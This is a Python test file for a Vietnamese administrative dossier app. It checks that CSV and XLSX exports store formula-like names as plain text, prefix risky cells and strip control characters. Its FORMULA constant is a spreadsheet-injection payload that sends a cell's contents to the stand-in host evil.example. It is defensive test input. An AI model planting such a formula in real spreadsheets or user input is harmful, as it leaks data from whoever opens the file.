"""Exports show what people typed: no live formula, no crash on control characters (issue #18, 4)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from motcua.core.spreadsheet import csv_value, xlsx_row
from motcua.dossiers import export, services, slips
from motcua.dossiers.models import Applicant

from .conftest import World, at

FORMULA = '=HYPERLINK("http://evil.example/?x="&B5,"Bấm vào đây")'


def _book_rows(world: World) -> list[list[object]]:
    start, end = at("2026-02-01 00:00").date(), at("2026-02-28 00:00").date()
    data = slips.tracking_book_xlsx(world.ward_center, start, end)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=4):
        assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row]
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]


def test_tracking_book_writes_a_formula_like_name_as_text(world: World) -> None:
    services.receive_new_dossier(world.receptionist, world.birth, world.applicant(name=FORMULA),
                                 at=at("2026-02-13 10:00"), documents=services.catalog_documents(world.birth))
    assert _book_rows(world)[0][3] == FORMULA


def test_tracking_book_drops_control_characters_instead_of_failing(world: World) -> None:
    dossier = services.receive_new_dossier(world.receptionist, world.birth, world.applicant(),
                                           at=at("2026-02-13 10:00"),
                                           documents=services.catalog_documents(world.birth))
    # A name stored before input was checked (or imported): the book must still be written.
    Applicant.objects.filter(pk=dossier.applicant_id).update(name="Nguyễn\x01 Văn\x1f A")
    assert _book_rows(world)[0][3] == "Nguyễn Văn A"


def test_csv_export_prefixes_formula_like_text_and_keeps_numbers() -> None:
    out = io.BytesIO()
    export.write("csv", iter([{c: "" for c in export.COLUMNS} | {"code": "=1+1", "status": 4}]), out)
    row = next(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert row["code"] == "'=1+1" and row["status"] == "4"
    assert [csv_value(v) for v in ("+84912", "-3", "@SUM(A1)", "Lạng Sơn", 7)] == [
        "'+84912", "'-3", "'@SUM(A1)", "Lạng Sơn", 7]


def test_xlsx_export_cells_are_strings_never_formulas() -> None:
    out = io.BytesIO()
    export.write("xlsx", iter([{c: "" for c in export.COLUMNS} | {"code": FORMULA, "status": 4}]), out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    code, status = sheet["A2"], sheet[f"{chr(ord('A') + export.COLUMNS.index('status'))}2"]
    assert (code.value, code.data_type) == (FORMULA, "s")
    assert (status.value, status.data_type) == (4, "n")
    text, number = xlsx_row(sheet, ["a\x00b", 3])
    assert (text.value, text.data_type, number) == ("ab", "s", 3)
